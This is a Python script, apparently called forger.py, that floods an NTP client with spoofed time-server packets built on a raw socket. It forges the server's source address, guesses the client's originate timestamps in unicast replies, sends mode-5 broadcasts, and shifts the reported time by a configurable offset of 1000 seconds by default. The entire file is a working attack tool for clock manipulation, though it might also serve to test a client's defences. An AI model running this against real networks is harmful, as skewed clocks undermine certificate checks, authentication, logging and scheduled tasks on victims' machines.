#!/usr/bin/python3
"""Forged replies from beside a time server: IPv4 datagrams with the
server's address as their source (a raw socket builds the headers), to the
client's NTP port, paced at --rate per second for --duration seconds, then
stops by itself. Every message says the time is --offset seconds later than
it is. Half are unicast replies (mode 4) whose originate time is a guess at
the client's request: the current time cut to the millisecond, a few
milliseconds back in turn; half are broadcasts (mode 5) to --bcast.

  forger.py --spoof ADDR --to ADDR --bcast ADDR [--rate N] [--duration S]
            [--offset S]

Prints one line when done: sent, of them replies and broadcasts, errors.
"""

import argparse
import socket
import struct
import sys
import time

import ntpwire

NTP_PORT = 123
GUESS_BACK_MS = 8  # how far back the originate guesses go, milliseconds


def ip_udp(src, dst, payload):
    """An IPv4 header (the kernel fills in the length, id and checksum) and
    a UDP header without checksum (allowed over IPv4), port 123 both ways."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    udp = struct.pack("!HHHH", NTP_PORT, NTP_PORT, 8 + len(payload), 0)
    return ip + udp + payload


def forged(mode, offset, n):
    t = ntpwire.now()
    originate = 0
    if mode == 4:
        ms = int(t * 1000) - n % (GUESS_BACK_MS + 1)
        originate = ntpwire.to_ntp(ms / 1000)
    return ntpwire.pack(version=3, mode=mode, stratum=2, originate=originate,
                        receive=ntpwire.to_ntp(t + offset),
                        transmit=ntpwire.to_ntp(t + offset))


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--spoof", required=True, help="the server's address")
    parser.add_argument("--to", required=True, help="the client's address")
    parser.add_argument("--bcast", required=True, help="the broadcast address")
    parser.add_argument("--rate", type=float, default=2500.0)
    parser.add_argument("--duration", type=float, default=60.0)
    parser.add_argument("--offset", type=float, default=1000.0)
    args = parser.parse_args()
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    print("forger rate=%g duration=%g offset=%+g" % (args.rate, args.duration, args.offset),
          flush=True)

    total = int(args.rate * args.duration)
    sent = replies = broadcasts = errors = 0
    start = time.monotonic()
    while sent < total:
        elapsed = time.monotonic() - start
        if elapsed > args.duration + 1.0:
            break  # a slow machine ends the flood on time, not on count
        due = min(total, int(elapsed * args.rate) + 1)
        while sent < due:
            mode = 4 if sent % 2 == 0 else 5
            dst = args.to if mode == 4 else args.bcast
            try:
                sock.sendto(ip_udp(args.spoof, dst, forged(mode, args.offset, sent // 2)),
                            (dst, 0))
                if mode == 4:
                    replies += 1
                else:
                    broadcasts += 1
            except OSError:
                errors += 1
            sent += 1
        time.sleep(0.002)
    print("forger done sent=%d replies=%d broadcasts=%d errors=%d seconds=%.1f"
          % (sent, replies, broadcasts, errors, time.monotonic() - start), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
